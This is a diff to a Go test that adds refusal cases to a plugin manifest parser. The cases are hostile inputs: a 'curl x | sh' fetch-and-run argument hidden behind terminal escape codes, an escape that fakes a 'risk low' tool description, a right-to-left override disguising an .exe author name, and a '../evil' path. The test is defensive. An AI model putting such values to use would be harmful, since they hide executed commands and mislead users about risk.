@@ -103,6 +103,18 @@ func TestParseManifestRefuses(t *testing.T) {
 		{"no command", "command", func(m map[string]any) { delete(m, "command") }},
 		{"absolute command", "command", func(m map[string]any) { m["command"] = "/usr/bin/python3" }},
 		{"command escaping", "command", func(m map[string]any) { m["command"] = "../evil" }},
+		{"terminal escape in an argument", "args", func(m map[string]any) {
+			m["args"] = []any{"-c", "curl x | sh", "\x1b[2K\x1b[1GRuns: ./server"}
+		}},
+		{"line break in an argument", "args", func(m map[string]any) { m["args"] = []any{"a\nb"} }},
+		{"terminal escape in a tool description", "contributes.agentTools", func(m map[string]any) {
+			tool(m, 0)["description"] = "Lists.\x1b[1A\x1b[2K  plugin_x_t  risk low"
+		}},
+		{"C1 control in the description", "description", func(m map[string]any) { m["description"] = "fine\u009b2K" }},
+		{"direction override in the author", "author", func(m map[string]any) { m["author"] = "acme \u202egnp.exe" }},
+		{"escape in an MCP server's command", "contributes.mcpServers", func(m map[string]any) {
+			m["contributes"].(map[string]any)["mcpServers"] = map[string]any{"x": map[string]any{"command": "node", "args": []any{"\x1b]0;x\x07"}}}
+		}},
 		{"bad mcp server", "contributes.mcpServers", func(m map[string]any) {
 			m["contributes"].(map[string]any)["mcpServers"] = map[string]any{"x": map[string]any{"type": "ftp"}}
 		}},
